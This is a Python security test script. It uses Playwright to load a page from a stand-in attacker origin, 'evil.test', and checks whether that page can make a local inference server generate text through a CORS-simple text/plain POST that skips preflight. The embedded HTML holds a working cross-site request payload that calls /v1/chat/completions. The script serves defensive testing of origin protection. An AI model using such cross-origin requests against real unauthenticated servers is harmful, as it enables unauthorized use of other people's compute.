"""A page from another origin posts to the server (no API key, no --allowed-origins) with
Content-Type text/plain (a 'simple' request: no CORS preflight). Does the generation run?"""
import time, httpx
from playwright.sync_api import sync_playwright
B = "http://127.0.0.1:18201"
def gen_tokens():
    for l in httpx.get(B + "/metrics").text.splitlines():
        if l.startswith("roseinfer_generation_tokens_total"): return float(l.split()[1])
EVIL = """<html><body><script>
const body = JSON.stringify({messages:[{role:"user",content:"hi"}], max_tokens: 50, ignore_eos: true});
window.results = [];
fetch("%s/v1/chat/completions", {method:"POST", mode:"no-cors", headers:{"Content-Type":"text/plain"}, body})
  .then(r => window.results.push("text/plain: type=" + r.type), e => window.results.push("text/plain: " + e));
fetch("%s/v1/chat/completions", {method:"POST", headers:{"Content-Type":"application/json"}, body})
  .then(r => window.results.push("json: " + r.status), e => window.results.push("json: " + e));
</script></body></html>""" % (B, B)
with sync_playwright() as p:
    br = p.chromium.launch(executable_path="/usr/bin/chromium")
    page = br.new_page()
    page.route("http://evil.test/**", lambda r: r.fulfill(status=200, content_type="text/html", body=EVIL))
    before = gen_tokens()
    page.goto("http://evil.test/")
    page.wait_for_function("window.results.length === 2", timeout=20000)
    time.sleep(1)
    print("page results:", page.evaluate("window.results"))
    print("generation tokens before/after:", before, gen_tokens())
    br.close()
